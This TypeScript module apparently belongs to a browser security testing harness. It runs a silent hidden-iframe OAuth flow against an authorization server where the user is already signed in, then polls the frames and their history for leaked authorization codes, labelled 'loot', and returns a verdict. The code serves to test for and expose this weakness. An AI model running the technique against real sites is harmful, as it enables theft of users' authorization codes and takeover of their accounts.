import { noteOnSession, sleep, verdict } from './attack.ts'
import type { AttackContext, AttackResult } from './attack.ts'
import {
  describePlaces,
  Loot,
  poll,
  RESPONSE_MODES,
  startOwnFlow,
  watchReports,
} from './own-flow.ts'
import { sameOriginDocuments } from './same-origin-documents.ts'

/** The user is signed in at the authorization server, so a silent request in a hidden frame gets a fresh code. */
export async function silentFrameFlow(context: AttackContext): Promise<AttackResult> {
  const loot = new Loot()
  const notes: string[] = [...noteOnSession(context)]
  const hosts = await sameOriginDocuments()
  try {
    for (const { name, document: host } of [{ name: 'page', document }, ...hosts.documents]) {
      const stop = watchReports(host.defaultView ?? window, loot, name)
      await Promise.all(
        RESPONSE_MODES.map((mode) =>
          runInFrame(context, loot, host, mode, `frame in ${name} (${mode})`),
        ),
      )
      stop()
      notes.push(describePlaces(loot, `Frames in ${name}`))
    }
  } finally {
    hosts.remove()
  }
  return verdict(loot.found, notes)
}

async function runInFrame(
  context: AttackContext,
  loot: Loot,
  host: Document,
  mode: (typeof RESPONSE_MODES)[number],
  where: string,
): Promise<void> {
  const { url } = await startOwnFlow(context, mode)
  const frame = host.createElement('iframe')
  frame.hidden = true
  frame.src = url
  host.body.append(frame)
  await poll(loot, () => [frame.contentWindow], where, 1800)
  // A page that refused to be framed has no readable location, but its entry stays in the history of the frame.
  frame.src = '/offline.html'
  await sleep(150)
  await poll(loot, () => [frame.contentWindow], `${where}, after leaving it`, 350)
  frame.remove()
}
